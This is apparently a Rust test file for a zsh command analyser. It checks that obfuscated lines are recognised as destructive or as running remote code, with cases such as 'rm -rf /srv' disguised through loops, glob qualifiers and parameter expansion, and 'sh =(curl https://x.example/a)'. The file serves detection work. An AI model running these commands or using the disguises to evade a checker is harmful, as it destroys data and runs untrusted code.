//! What lines of zsh are found to do.

use cmdai_schema::Dialect;

use crate::support::{line, look_as};

const SRV: &str = "delete /srv recursive force";

/// Lines, each with an effect that it must have.
const DOES: &[(&str, &str)] = &[
    // Short forms.
    ("for x (/etc /srv) rm -rf $x", SRV),
    ("for x (/etc /srv) { rm -rf $x }", SRV),
    ("for x in /etc /srv; { rm -rf $x }", SRV),
    ("for x in /etc /srv; do rm -rf $x; done", SRV),
    ("for a b (x /srv) rm -rf $b", SRV),
    ("foreach x (/etc /srv)\n  rm -rf $x\nend", SRV),
    (
        "foreach x (/srv); rm -rf $x; end; rm -rf /opt",
        "delete /opt recursive force",
    ),
    ("repeat 3 rm -rf /srv", SRV),
    ("repeat 3 { rm -rf /srv }", SRV),
    ("repeat 3; do rm -rf /srv; done", SRV),
    ("if [[ -d /srv ]] { rm -rf /srv }", SRV),
    ("if [[ -d /srv ]] rm -rf /srv", SRV),
    ("if (( $#x )) { echo } else { rm -rf /srv }", SRV),
    (
        "if [[ -n $x ]] { echo } elif [[ -n $y ]] { rm -rf /srv }",
        SRV,
    ),
    ("if [[ a ]] { echo } else { echo }; rm -rf /srv", SRV),
    ("if true; then rm -rf /srv; fi", SRV),
    ("while [[ 1 ]] { rm -rf /srv }", SRV),
    ("until (( 0 )) rm -rf /srv", SRV),
    ("{ rm -rf /srv } always { echo }", SRV),
    ("{ echo } always { rm -rf /srv }", SRV),
    ("() { rm -rf $1 } /srv", SRV),
    ("f() rm -rf /srv; f", SRV),
    ("function f { rm -rf $1 }; f /srv", SRV),
    // Words.
    ("=rm -rf /srv", SRV),
    (
        "sh =(curl https://x.example/a)",
        "run-code remote https://x.example/a",
    ),
    (
        "source =(curl https://x.example/a)",
        "run-code remote https://x.example/a",
    ),
    ("noglob rm -rf /srv", SRV),
    ("rm -rf /(etc|srv)", SRV),
    ("rm -rf /*(D)", "delete /* recursive force"),
    ("rm -rf /srv/**/*(.D)", "delete /srv/**/* recursive force"),
    ("rm -rf ~/*(om[1,3])", "delete /home/user/* recursive force"),
    ("ls *(e:'rm -rf /srv':)", SRV),
    ("rm -rf /srv(N)", SRV),
    ("rm -rf /(etc|srv)(N)", SRV),
    ("rm -rf /srv/*(mh+5)", "delete /srv/* recursive force"),
    // Parameters.
    ("x=/srv/a; rm -rf $x:h", SRV),
    ("x=/srv/a; rm -rf ${x:h}", SRV),
    ("x=a/rm; ${x:t} -rf /srv", SRV),
    ("x=RM; ${(L)x} -rf /srv", SRV),
    ("x=RM; ${x:l} -rf /srv", SRV),
    ("${:-rm} -rf /srv", SRV),
    ("${(L):-RM} -rf /srv", SRV),
    ("${${:-xrm}#x} -rf /srv", SRV),
    ("x='rm -rf /srv'; $=x", SRV),
    ("x='rm -rf /srv'; ${=x}", SRV),
    ("x='rm -rf /srv'; ${(z)x}", SRV),
    ("x='rm:-rf:/srv'; ${(s.:.)x}", SRV),
    ("a=(rm -rf /srv); $a", SRV),
    ("a=(rm -rf /srv); $a[1] -rf $a[3]", SRV),
    ("a=(x rm -rf /srv); $a[2,-1]", SRV),
    ("a=(x /srv); rm -rf ${a[2]}", SRV),
    ("x=xrmx; $x[2,3] -rf /srv", SRV),
    ("n=x; x=/srv; rm -rf ${(P)n}", SRV),
    ("x=sm; ${x:s/s/r/} -rf /srv", SRV),
    ("eval ${(j: :)${(s.,.):-rm,-rf,/srv}}", SRV),
];

/// Lines that do nothing of that kind.
const DOES_NOT: &[(&str, &str)] = &[
    ("print -z 'rm -rf /srv'", "delete"),
    ("print -P '%F{red}rm -rf /srv%f'", "delete"),
    ("ls *(.om[1])", "run-code"),
    ("ls **/*(D)", "unknown"),
    ("a=(/srv x); rm -rf $a[2]", "run-code"),
    ("echo ${(f)x}", "delete"),
    ("for f (*.txt) echo $f:t:r", "delete"),
    ("alias -g L='| less'; ls", "delete"),
    ("[[ $x == (a|b) ]] && echo y", "delete"),
    ("case $x in (a|b) echo;; c) echo;; esac", "delete"),
    ("echo <1-5>", "read"),
    ("ls file<1-5>.txt", "overwrite"),
    ("echo $#x $#", "delete"),
    ("zmv '(*).txt' '$1.md'", "delete"),
];

fn lines(text: &str) -> Vec<String> {
    let analysis = look_as(text, Dialect::Zsh);
    analysis.effects.iter().map(line).collect()
}

#[test]
fn does() {
    let wrong: Vec<String> = DOES
        .iter()
        .filter_map(|(text, expected)| {
            let all = lines(text);
            (!all.iter().any(|line| line == expected))
                .then(|| format!("{text}\n  no {expected:?} among {all:?}"))
        })
        .collect();
    assert!(
        wrong.is_empty(),
        "{} of {}\n{}",
        wrong.len(),
        DOES.len(),
        wrong.join("\n")
    );
}

#[test]
fn does_not() {
    let wrong: Vec<String> = DOES_NOT
        .iter()
        .filter_map(|(text, kind)| {
            let all = lines(text);
            all.iter()
                .any(|line| line.split(' ').next() == Some(kind))
                .then(|| format!("{text}\n  {kind} among {all:?}"))
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Everything that is written here is read without complaint.
#[test]
fn is_read_whole() {
    let all = DOES.iter().chain(DOES_NOT).map(|(text, _)| *text);
    let wrong: Vec<String> = all
        .filter_map(|text| {
            let tree = cmdai_shell::parse(text, Dialect::Zsh);
            let whole = tree.complete && tree.unknown.is_empty() && tree.diagnostics.is_empty();
            (!whole).then(|| format!("{text}\n  {:?}", tree.diagnostics))
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// A value that cannot be told is not taken for one that can.
#[test]
fn unknown_flags_are_unknown() {
    for text in [
        "x=/srv; rm -rf ${(%)x}",
        "x=/srv; rm -rf ${x:c}",
        "x=/srv; rm -rf ${(#)x}",
    ] {
        let all = lines(text);
        assert!(!all.iter().any(|line| line == SRV), "{text}: {all:?}");
        assert!(
            all.iter().any(|line| line.starts_with("delete ")),
            "{text}: {all:?}"
        );
    }
}
